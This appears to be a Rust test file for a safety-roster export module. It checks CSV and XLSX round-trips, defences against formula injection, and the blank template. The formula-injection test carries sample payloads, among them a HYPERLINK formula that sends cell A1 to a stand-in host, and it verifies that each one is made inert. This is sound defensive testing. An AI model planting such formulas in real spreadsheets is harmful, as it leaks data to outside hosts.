//! Exports read back: the same columns the import reads, formula-like cells inert in CSV and
//! XLSX (B11), and the blank template.

use std::io::Read;

use safeduty_core::roster::layout::locate;
use safeduty_core::roster::{Field, Line};
use safeduty_roster::export::{Format, SHEET_NAME, template, write};
use safeduty_roster::{Source, read};

use crate::case;

fn line(values: &[(Field, &str)]) -> Line {
    let mut l: Line = Default::default();
    for (f, v) in values {
        let i = Field::ALL.iter().position(|x| x == f).unwrap();
        l[i] = (*v).to_string();
    }
    l
}

fn lines() -> Vec<Line> {
    vec![
        line(&[
            (Field::Name, "示例机械制造有限公司"),
            (Field::Uscc, "91330106MA2BC0001U"),
            (Field::Industry, "机械制造"),
            (Field::Region, "东湖街道"),
            (Field::Department, "区应急管理局"),
            (Field::IsKey, "是"),
            (Field::Address, "-1层配电室旁"),
            (Field::Contact, "王某"),
            (Field::Phone, "01088880001"),
        ]),
        line(&[
            (Field::Name, "示例仓储有限公司"),
            (Field::Uscc, "91330106MA2BC00032"),
            (Field::Region, "南山镇"),
            (Field::IsKey, "否"),
            (Field::Phone, "138****0002"),
        ]),
    ]
}

/// The lines a file imports as, in [`Field::ALL`] order, read the way an import reads them.
fn read_back(bytes: &[u8]) -> Vec<Line> {
    let sheet = read(bytes).unwrap();
    let l = locate(&sheet.grid).unwrap();
    assert_eq!(l.header_row, 1);
    assert!(l.missing.is_empty());
    assert!(l.columns.iter().all(|c| c.field.is_some()));
    l.rows
        .iter()
        .map(|r| {
            let mut out: Line = Default::default();
            for (cell, f) in out.iter_mut().zip(Field::ALL) {
                *cell = safeduty_core::roster::clean::text(r.get(f));
            }
            out
        })
        .collect()
}

#[test]
fn exports_read_back_as_written() {
    for format in [Format::Xlsx, Format::Csv] {
        let bytes = write(format, &lines()).unwrap();
        assert_eq!(read_back(&bytes), lines(), "{format:?}");
    }
    let csv = write(Format::Csv, &lines()).unwrap();
    assert!(csv.starts_with("\u{FEFF}企业名称,统一社会信用代码,行业,".as_bytes()));
    let text = String::from_utf8(csv).unwrap();
    // A code stays text; the address that starts with "-" is inert; CRLF line ends.
    assert!(text.contains("\r\n示例机械制造有限公司,91330106MA2BC0001U,机械制造,东湖街道,区应急管理局,是,'-1层配电室旁,,,王某,01088880001\r\n"), "{text}");
    let xlsx = read(&write(Format::Xlsx, &lines()).unwrap()).unwrap();
    assert_eq!(
        xlsx.source,
        Source::Xlsx {
            sheet: SHEET_NAME.into()
        }
    );
}

fn xlsx_part(bytes: &[u8], part: &str) -> String {
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut s = String::new();
    z.by_name(part).unwrap().read_to_string(&mut s).unwrap();
    s
}

/// B11: every formula-like cell is inert — an apostrophe in CSV, a quote-prefixed string in
/// XLSX — and reads back as typed; harmless cells are untouched.
#[test]
fn b11_formula_like_cells_are_inert() {
    let sheet = read(&case("B11_hazards_formula_injection.csv")).unwrap();
    let rows: Vec<(String, String)> = sheet.grid.rows[1..]
        .iter()
        .map(|r| (r.cell(0).to_string(), r.cell(1).to_string()))
        .collect();
    assert_eq!(rows.len(), 6);
    // Each hazard description goes into the address column, the most free-form one.
    let lines: Vec<Line> = rows
        .iter()
        .enumerate()
        .map(|(i, (name, description))| {
            line(&[
                (Field::Name, name),
                (
                    Field::Uscc,
                    [
                        "91330106MA2BC0001U",
                        "91330106MA2BC00032",
                        "91330106MA2BC00045",
                        "91330106MA2BC00058",
                        "91330106MA2BC00066",
                        "91330106MA2BC00074",
                    ][i],
                ),
                (Field::Region, "示例镇"),
                (Field::Address, description),
            ])
        })
        .collect();

    let csv = String::from_utf8(write(Format::Csv, &lines).unwrap()).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
    let addresses: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[6].to_string())
        .collect();
    assert_eq!(
        addresses,
        [
            "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"查看详情\")",
            "'+1+1",
            "'@SUM(1,1)",
            "'-1层配电室未铺设绝缘胶垫",
            "'\t=1+1",
            "'＝1+1（全角等号）",
        ]
    );
    // No field of the file starts with a trigger character.
    for line in csv.lines().skip(1) {
        for field in line.split(',') {
            assert!(
                !field
                    .trim_matches('"')
                    .starts_with(['=', '+', '-', '@', '＝']),
                "{field}"
            );
        }
    }

    let xlsx = write(Format::Xlsx, &lines).unwrap();
    let sheet_xml = xlsx_part(&xlsx, "xl/worksheets/sheet1.xml");
    assert!(!sheet_xml.contains("<f>"), "no formulas in the sheet");
    let styles = xlsx_part(&xlsx, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""));
    // Read back, each description is exactly what was typed ("-1层配电室…" readable as is).
    let back = read(&xlsx).unwrap();
    let got: Vec<&str> = back.grid.rows[1..].iter().map(|r| r.cell(6)).collect();
    let want: Vec<&str> = rows.iter().map(|(_, d)| d.as_str()).collect();
    assert_eq!(got, want);
    // The descriptions carry the quote-prefix style, the names do not.
    let style = |cell: &str| -> usize {
        let at = sheet_xml.find(&format!("<c r=\"{cell}\"")).unwrap();
        let rest = &sheet_xml[at..];
        let s = &rest[rest.find(" s=\"").unwrap() + 4..];
        s[..s.find('"').unwrap()].parse().unwrap()
    };
    let xfs_at = styles.find("<cellXfs").unwrap();
    let xfs: Vec<&str> = styles[xfs_at..].split("<xf ").skip(1).collect();
    for r in 2..=7 {
        assert!(
            xfs[style(&format!("G{r}"))].contains("quotePrefix=\"1\""),
            "G{r}"
        );
        assert!(
            !xfs[style(&format!("A{r}"))].contains("quotePrefix"),
            "A{r}"
        );
    }
}

#[test]
fn template_has_the_header_and_notes() {
    let bytes = template().unwrap();
    let sheet = read(&bytes).unwrap();
    assert_eq!(
        sheet.source,
        Source::Xlsx {
            sheet: SHEET_NAME.into()
        }
    );
    let l = locate(&sheet.grid).unwrap();
    assert_eq!(l.header_row, 1);
    assert!(l.rows.is_empty(), "the example is not on the roster sheet");
    let headers: Vec<Option<Field>> = l.columns.iter().map(|c| c.field).collect();
    assert_eq!(headers, Field::ALL.map(Some));
    let workbook = xlsx_part(&bytes, "xl/workbook.xml");
    assert!(workbook.contains("name=\"填写说明\""));
}
